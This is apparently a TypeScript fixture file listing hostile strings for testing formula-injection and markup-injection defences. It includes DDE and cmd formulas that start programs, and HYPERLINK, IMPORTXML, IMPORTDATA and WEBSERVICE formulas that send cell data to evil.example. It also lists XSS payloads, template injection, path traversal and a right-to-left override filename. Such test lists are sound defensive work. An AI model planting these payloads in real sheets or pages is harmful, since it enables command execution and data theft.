/** Texts that do harm where a program runs them: as a formula in a sheet, as markup in a page. A log keeps them as they were typed. */

/** What OWASP names as the beginnings of a formula in a cell, then the full-width forms that some programs take for the same. */
const LEADS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\t", "\r", "\n", "＝", "＋", "－", "＠"];

/** What may stand before the lead: nothing, spaces, spaces that do not break, marks that are not seen. */
const BEFORE = ["", " ", "   ", "\u00a0", "\u202f", "\u200b", "\ufeff", "'", '"', ";", ","];

/** A lead alone, and a lead with a sum behind it, after everything that may stand before it. */
const SHORT: readonly string[] = LEADS.flatMap((lead) => BEFORE.map((before) => `${before}${lead}1+1`));

/** Whole formulas that fetch, link, or start a program. */
const FORMULAS: readonly string[] = [
  "=1+1",
  "=",
  "==1",
  "+",
  "-",
  "@",
  "--1",
  "-2+3",
  "+1-1",
  "@SUM(1,2)",
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  `DDE ("cmd";"/C calc";"!A0")A0`,
  '=DDE("cmd";"/C calc";"!A0")',
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
  '=HYPERLINK("x")',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a/a10")',
  '=IMPORTDATA("https://evil.example/"&A1)',
  '=IMAGE("https://evil.example/x.png")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMPORTRANGE("abc","Sheet1!A1")',
  "={1,2;3,4}",
  "{=1+1}",
  "=A1\n=A2",
  'a","=1+1","b',
  "a\t=1+1\t",
  "a\n=1+1",
  "a;=1+1;b",
];

/** What a page would run if it took text for markup, a pattern or an address. */
const SCRIPTS: readonly string[] = [
  "<script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  "<svg/onload=alert(1)>",
  "<iframe src=javascript:alert(1)>",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "<!-- --!><script>alert(1)</script>",
  "]]><x/><![CDATA[",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;&#60;&#x3c;",
  "<?= 1+1 ?>",
  "<?!= evil() ?>",
  "{{constructor.constructor('alert(1)')()}}",
  "\u0024{alert(1)}",
  "$& $1 $$ $`",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\\u003cscript\\u003e",
  "_x003D_1+1",
  "_x000D_",
  "__proto__",
  "constructor",
  "toString",
  '&"Arial"&8header',
  "../../etc/passwd",
  "a\u2028\u2029b",
  "\u202ecod.exe",
  "🙂 =1+1",
];

/** Every one of them, each once. */
export const HOSTILE: readonly string[] = [...new Set([...FORMULAS, ...SCRIPTS, ...SHORT])];
